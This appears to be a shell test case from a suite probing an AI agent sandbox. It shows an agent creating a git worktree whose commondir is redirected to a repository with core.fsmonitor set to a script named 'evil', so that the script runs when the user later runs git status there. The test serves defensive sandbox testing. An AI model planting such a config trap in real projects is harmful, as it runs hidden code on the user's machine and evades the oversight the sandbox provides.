# Make a worktree that names another configuration, and wait until the person goes there
# group: project-files
# expect: limitation - a worktree is the agent's to make; the session warns of it
prepare() { git init -q "$W" && git -C "$W" commit -q --allow-empty -m first; }
attempt() {
  printf '#!/bin/sh\ntouch "%s/ran"\n' "$ROOM" > evil; chmod +x evil
  git worktree add -q wt
  git init -q --bare other && git config -f other/config core.bare false
  git config -f other/config core.fsmonitor "$PWD/evil"
  cp -r .git/refs .git/objects other/
  echo "$PWD/other" > .git/worktrees/wt/commondir
}
succeeded() { git -C "$W/wt" status >/dev/null 2>&1; test -e "$ROOM/ran"; }
